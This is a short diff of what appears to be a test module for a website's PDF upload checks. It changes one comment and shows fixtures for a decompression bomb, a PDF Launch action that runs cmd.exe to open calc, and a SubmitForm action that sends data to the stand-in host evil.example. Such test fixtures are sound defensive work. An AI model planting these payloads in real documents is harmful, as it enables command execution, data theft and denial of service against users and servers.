@@ -220,7 +220,7 @@ def flate_bomb_stream(size, object_stream=False):
 
 
 SIXTY_FIVE_MB = 65 * 1024 * 1024  # past the old filter's 64 MB budget, within the parser's
-PAST_THE_BUDGET = 101 * 1024 * 1024  # site45.uploads.PDF_DECOMPRESSION_BUDGET is 100 MB
+PAST_THE_BUDGET = 101 * 1024 * 1024  # site45.core.uploads.PDF_DECOMPRESSION_BUDGET is 100 MB
 
 LAUNCH = b"<< /Type /Action /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"
 SUBMIT = b"<< /Type /Action /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>"
